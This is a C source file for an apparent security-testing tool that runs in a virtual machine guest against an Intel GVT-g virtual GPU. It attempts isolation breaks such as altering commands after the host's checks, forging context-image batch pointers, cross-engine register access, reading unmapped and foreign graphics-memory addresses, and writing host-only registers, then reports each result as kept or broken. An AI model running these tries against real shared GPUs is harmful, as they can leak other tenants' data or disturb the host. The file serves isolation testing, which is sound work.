// SPDX-License-Identifier: GPL-2.0-only
/*
 * isolation: tries on a vGPU, without a GPU driver, what must not be possible on hardware that
 * several guests share. Prints a JSON object in each line: the values that it writes to registers
 * of the host, which must not reach the hardware, and then the verdict of each try when it has one.
 * Run on two vGPUs, one after the other, the second finds what the first has left for others.
 */
#include <argp.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "bar0_pci.h"
#include "guest_env.h"
#include "options.h"

#define WINDOW_BYTES (8u << 20) /* as much of the GGTT as is used */
#define UNMAPPED (WINDOW_BYTES / 2) /* in the window; never mapped */
#define IMAGE_PAGES 24u /* GVT-g reads 22 pages of an image */
#define LIMIT_US 20000000u
#define TAKEN_US 500000u /* by then the host has taken a submission */

#define RCS_BASE 0x2000u
#define RCS_NOPID 0x2094u /* storage: of no use to any engine */
#define RCS_HWS_PGA 0x2080u
#define RCS_GPR0 (RCS_BASE + RING_GPR)
#define INDEX_OFFSET 0xfc0u /* in a status page, where nothing else is */
#define NONE 0x0d0d0d0du /* what no try writes */
#define TOKEN 0x15c70000u

/* Dwords of an image: where the batch is that the context was in. */
#define CTX_BB_HEAD_UPPER 0x0d
#define CTX_BB_HEAD 0x0f
#define CTX_BB_STATE 0x11
#define BB_VALID 1u
#define BB_PPGTT (1u << 5)
#define CTX_CONTROL_RESTORE 0x000f0008u

/* The register of emit_load(). */
static uint32_t loaded = RCS_GPR0;

enum verdict { KEPT, BROKEN, UNCLEAR };

static const char *const verdicts[] = { "kept", "broken", "unclear" };
static char said[200];

__attribute__((format(printf, 2, 3))) static enum verdict verdict(enum verdict is,
								  const char *format, ...)
{
	va_list args;

	va_start(args, format);
	vsnprintf(said, sizeof(said), format, args);
	va_end(args);
	return is;
}

static const char *name_of(enum outcome outcome)
{
	return outcome == RAN ? "it ran" : outcome == STOPPED ? "it was stopped" : "it did not end";
}

static struct context fresh(enum engine_id id)
{
	struct context context;

	context_make(&context, id, &fixture.tables);
	return context;
}

/*
 * Appends a user batch that waits until the first dword of data page 1 is 1: GVT-g stops a vGPU
 * that has a wait in its ring.
 */
static void emit_wait(struct context *context)
{
	const uint64_t at = FIXTURE_DATA + PAGE_BYTES;
	volatile uint32_t *batch = fixture_data(3);

	fixture_data(1)[0] = 0;
	batch[0] = MI(MI_SEMAPHORE_WAIT, 4) | SEMAPHORE_POLL | SEMAPHORE_EQUAL;
	batch[1] = 1;
	batch[2] = (uint32_t)at;
	batch[3] = at >> 32;
	batch[4] = MI_BATCH_END;
	emit_batch(context, true, FIXTURE_DATA + 3 * PAGE_BYTES);
}

/* Submits a context that waits, changes *@command while it does, and lets it go on. */
static enum outcome change_late(struct context *context, volatile uint32_t *command)
{
	fixture_data(0)[0] = NONE;
	context_submit(context);
	usleep(TAKEN_US);
	*command = 2;
	fixture_data(1)[0] = 1;
	return engine_settle(context->engine, 1, LIMIT_US);
}

static enum verdict changed(enum outcome outcome)
{
	uint32_t value = fixture_data(0)[0];

	return verdict(value == 1 ? KEPT :
		       value == 2 ? BROKEN :
				    UNCLEAR,
		       "%s, and stored %#x", name_of(outcome), value);
}

static enum verdict late_ring(void)
{
	struct context context = fresh(RCS);
	volatile uint32_t *command;

	emit_wait(&context);
	emit_store(&context, false, FIXTURE_DATA, 1);
	command = &context.ring[context.tail / 4 - 1];
	return changed(change_late(&context, command));
}

static enum verdict late_kernel_batch(void)
{
	struct context context = fresh(RCS);
	volatile uint32_t *batch = page_at(fixture.batch);

	batch[0] = MI(MI_STORE_DATA, 4);
	batch[1] = (uint32_t)FIXTURE_DATA;
	batch[2] = FIXTURE_DATA >> 32;
	batch[3] = 1;
	batch[4] = MI_BATCH_END;
	emit_wait(&context);
	emit_batch(&context, false, fixture.batch_address);
	return changed(change_late(&context, &batch[3]));
}

/* Runs @count dwords as a user batch in a new context. */
static enum outcome run_user(enum engine_id id, const uint32_t *commands, unsigned int count)
{
	volatile uint32_t *batch = page_at(fixture.batch);
	struct context context = fresh(id);

	for (unsigned int i = 0; i < count; i++)
		batch[i] = commands[i];
	batch[count] = MI_BATCH_END;
	emit_batch(&context, true, FIXTURE_BATCH);
	return context_run(&context, LIMIT_US);
}

static enum outcome user_read(enum engine_id id, uint32_t reg, uint32_t *value)
{
	const uint32_t read[] = { MI(MI_STORE_REGISTER, 4), reg, (uint32_t)FIXTURE_DATA,
				  FIXTURE_DATA >> 32 };
	enum outcome outcome;

	fixture_data(0)[0] = NONE;
	outcome = run_user(id, read, 4);
	*value = fixture_data(0)[0];
	return outcome;
}

/* The batch that the image says it was in stores to data page 0. */
static enum verdict image_batch(void)
{
	volatile uint32_t *batch = page_at(fixture.batch);
	struct context context = fresh(RCS);
	enum outcome outcome;

	emit_store(&context, false, FIXTURE_DATA + PAGE_BYTES, 1);
	context_run(&context, LIMIT_US);
	batch[0] = MI(MI_STORE_DATA, 4);
	batch[1] = (uint32_t)FIXTURE_DATA;
	batch[2] = FIXTURE_DATA >> 32;
	batch[3] = TOKEN;
	batch[4] = MI_BATCH_END;
	fixture_data(0)[0] = NONE;
	fixture_data(1)[0] = 0;
	context.state[CTX_CONTROL] = CTX_CONTROL_RESTORE;
	context.state[CTX_BB_HEAD_UPPER] = FIXTURE_BATCH >> 32;
	context.state[CTX_BB_HEAD] = (uint32_t)FIXTURE_BATCH | BB_VALID;
	context.state[CTX_BB_STATE] = BB_PPGTT;
	emit_store(&context, false, FIXTURE_DATA + PAGE_BYTES, 1);
	outcome = context_run(&context, LIMIT_US);
	return verdict(fixture_data(0)[0] != NONE ? BROKEN :
		       fixture_data(1)[0] == 1	  ? KEPT :
						    UNCLEAR,
		       "%s; the ring stored %#x, the batch %#x", name_of(outcome),
		       fixture_data(1)[0], fixture_data(0)[0]);
}

static enum verdict blitter_writes_register(void)
{
	const uint32_t load[] = { MI(MI_LOAD_IMM, 3), RCS_NOPID, TOKEN + 1 };
	enum outcome wrote = run_user(BCS, load, 3), outcome;
	uint32_t value;

	outcome = user_read(BCS, RCS_NOPID, &value);
	return verdict(value == TOKEN + 1 ? BROKEN : KEPT, "the write: %s; the read: %s, %#x",
		       name_of(wrote), name_of(outcome), value);
}

static enum verdict blitter_reads_register(void)
{
	enum outcome outcome;
	uint32_t value;

	outcome = user_read(BCS, RCS_HWS_PGA, &value);
	return verdict(value && value != NONE && value != engines[RCS].status_page ? BROKEN : KEPT,
		       "%s, %#x", name_of(outcome), value);
}

/* The second of two contexts is new, so its image has no registers. */
static enum verdict register_of_another_context(void)
{
	const uint64_t batch_address = FIXTURE_DATA + 2 * PAGE_BYTES;
	volatile uint32_t *batches[] = { page_at(fixture.batch), fixture_data(2) };
	struct context first = fresh(RCS), second = fresh(RCS);
	enum outcome outcome;
	uint32_t value;

	fixture_data(0)[0] = NONE;
	batches[0][0] = MI(MI_LOAD_IMM, 3);
	batches[0][1] = RCS_GPR0;
	batches[0][2] = TOKEN + 2;
	batches[0][3] = MI_BATCH_END;
	batches[1][0] = MI(MI_STORE_REGISTER, 4);
	batches[1][1] = RCS_GPR0;
	batches[1][2] = (uint32_t)FIXTURE_DATA;
	batches[1][3] = FIXTURE_DATA >> 32;
	batches[1][4] = MI_BATCH_END;
	emit_batch(&first, true, FIXTURE_BATCH);
	emit_batch(&second, true, batch_address);
	first.state[CTX_RING_TAIL] = (first.tail + 7) & ~7u;
	second.state[CTX_RING_TAIL] = (second.tail + 7) & ~7u;
	engine_submit(first.engine, first.descriptor, second.descriptor);
	outcome = engine_settle(first.engine, 2, LIMIT_US);
	value = fixture_data(0)[0];
	return verdict(value == TOKEN + 2 ? BROKEN :
		       value == NONE	  ? UNCLEAR :
					    KEPT,
		       "%s, %#x", name_of(outcome), value);
}

/*
 * Loads a dword of the GGTT to a register of the render engine, and stores it to data page 0. GVT-g
 * stops a vGPU that does so with most registers.
 */
static void emit_load(struct context *context, uint32_t address)
{
	const uint32_t commands[] = {
		MI(MI_LOAD_MEMORY, 4) | MI_GGTT,
		loaded,
		address,
		0,
		MI(MI_STORE_REGISTER, 4),
		loaded,
		(uint32_t)FIXTURE_DATA,
		FIXTURE_DATA >> 32,
	};

	fixture_data(0)[0] = NONE;
	emit(context, commands, sizeof(commands) / sizeof(commands[0]));
}

/* Without a reset of the engine: a vGPU that the host has stopped does not answer one. */
static enum outcome run_last(struct context *context)
{
	context_submit(context);
	return engine_wait(context->engine, 1, LIMIT_US);
}

/* The vGPU that runs this program second loads what the first one stored. */
static enum verdict unmapped_address(void)
{
	const uint32_t address = window_start + UNMAPPED;
	enum outcome outcome, stored;
	struct context context = fresh(RCS);
	uint32_t value;

	emit_load(&context, address);
	outcome = context_run(&context, LIMIT_US);
	value = fixture_data(0)[0];
	context = fresh(RCS);
	emit_store(&context, true, address, TOKEN + 3);
	stored = context_run(&context, LIMIT_US);
	return verdict(value == TOKEN + 3	       ? BROKEN :
		       outcome == RAN && stored == RAN ? KEPT :
							 UNCLEAR,
		       "the load: %s, %#x; the store: %s", name_of(outcome), value,
		       name_of(stored));
}

/* The store of a flush, whose address is an offset in the status page. */
static enum verdict store_index(void)
{
	struct context context = fresh(BCS);
	const uint32_t flush[] = {
		MI(MI_FLUSH_DW, 5) | FLUSH_POST_IMMEDIATE | FLUSH_STORE_INDEX,
		INDEX_OFFSET | FLUSH_DW_GGTT,
		0,
		TOKEN + 4,
		0,
	};
	enum outcome outcome;
	bool own;

	emit(&context, flush, 5);
	outcome = run_last(&context);
	own = context.status[INDEX_OFFSET / 4] == TOKEN + 4 ||
	      engines[BCS].status[INDEX_OFFSET / 4] == TOKEN + 4;
	return verdict(own	      ? KEPT :
		       outcome == RAN ? BROKEN :
					UNCLEAR,
		       "%s; %s a page of the guest", name_of(outcome),
		       own ? "the store is in" : "it is not in");
}

/* Registers that the host programs, with values that no driver writes there. */
static const struct {
	const char *name;
	uint32_t offset, value;
} host_registers[] = {
	{ "FORCE_TO_NONPRIV", 0x24d0, 0x0001f1f0 },
	{ "MOCS", 0xc800, 0x00000a51 },
	{ "PPAT", 0x40e0, TOKEN + 6 },
	{ "RPNSWREQ", 0xa008, TOKEN + 7 },
	{ "PCODE_DATA", 0x138128, TOKEN + 8 },
	{ "GAMT_CHKN", 0x4ab8, TOKEN + 9 },
};

#define HOST_REGISTERS (sizeof(host_registers) / sizeof(host_registers[0]))

/* The verdict is the trace's of the emulated GPU. A submission may load what was written. */
static enum verdict registers_of_the_host(void)
{
	enum outcome outcome;

	for (unsigned int i = 0; i < HOST_REGISTERS; i++)
		machine_write(host_registers[i].offset, host_registers[i].value, 4);
	outcome = fixture_store(RCS, FIXTURE_DATA, 1);
	return verdict(UNCLEAR, "a later submission: %s", name_of(outcome));
}

static enum verdict foreign_address(void)
{
	uint32_t address = window_start > (1u << 20) ? window_start - PAGE_BYTES : 1u << 31, value;
	struct context context = fresh(RCS);
	enum outcome outcome;

	emit_load(&context, address);
	outcome = run_last(&context);
	value = fixture_data(0)[0];
	return verdict(outcome == RAN && value && value != NONE ? BROKEN : KEPT, "%s, %#x",
		       name_of(outcome), value);
}

/* @last: the host may stop the vGPU for it. Only one of these is tried, after all others. */
static const struct {
	const char *name;
	enum verdict (*run)(void);
	bool last;
} tries[] = {
	{ "late_ring", late_ring, false },
	{ "late_kernel_batch", late_kernel_batch, false },
	{ "image_batch", image_batch, false },
	{ "blitter_writes_register", blitter_writes_register, false },
	{ "blitter_reads_register", blitter_reads_register, false },
	{ "register_of_another_context", register_of_another_context, false },
	{ "registers_of_the_host", registers_of_the_host, false },
	{ "unmapped_address", unmapped_address, false },
	{ "foreign_address", foreign_address, true },
	{ "store_index", store_index, true },
};

#define TRIES (sizeof(tries) / sizeof(tries[0]))

static const char *device, *last;

static error_t parse(int key, char *argument, struct argp_state *state)
{
	(void)state;
	switch (key) {
	case 'd':
		device = argument;
		return 0;
	case 'l':
		last = argument;
		return 0;
	case 'r':
		loaded = parse_number(state, argument, 0, UINT32_MAX);
		return 0;
	default:
		return ARGP_ERR_UNKNOWN;
	}
}

static const struct argp_option options[] = {
	{ "device", 'd', "ADDRESS", 0,
	  "PCI address of the vGPU in the guest (default: the first Intel display function)", 0 },
	{ "last", 'l', "TRY", 0,
	  "Which of the tries to end with for which the host may stop the vGPU: foreign_address or "
	  "store_index (default: none)",
	  0 },
	{ "register", 'r', "OFFSET", 0,
	  "The register by which a ring loads from the GGTT (default: 0x2600, a GPR)", 0 },
	{ 0 },
};

static const struct argp argp = {
	.options = options,
	.parser = parse,
	.doc = "Try what must not be possible on a shared GPU. No driver may be bound to the vGPU.",
};

int main(int argc, char **argv)
{
	argp_parse(&argp, argc, argv, 0, NULL, NULL);
	window_limit = WINDOW_BYTES;
	image_pages = IMAGE_PAGES;
	machine_open(device);
	env_begin();
	fixture_setup(NULL);
	for (unsigned int i = 0; i < HOST_REGISTERS; i++)
		printf("{\"register\": \"%s\", \"offset\": %" PRIu32 ", \"value\": %" PRIu32 "}\n",
		       host_registers[i].name, host_registers[i].offset, host_registers[i].value);
	for (unsigned int i = 0; i < TRIES; i++) {
		enum verdict is;

		if (tries[i].last && (!last || strcmp(tries[i].name, last) != 0))
			continue;
		is = tries[i].run();
		printf("{\"try\": \"%s\", \"verdict\": \"%s\", \"said\": \"%s\"}\n", tries[i].name,
		       verdicts[is], said);
		fflush(stdout);
	}
	return 0;
}
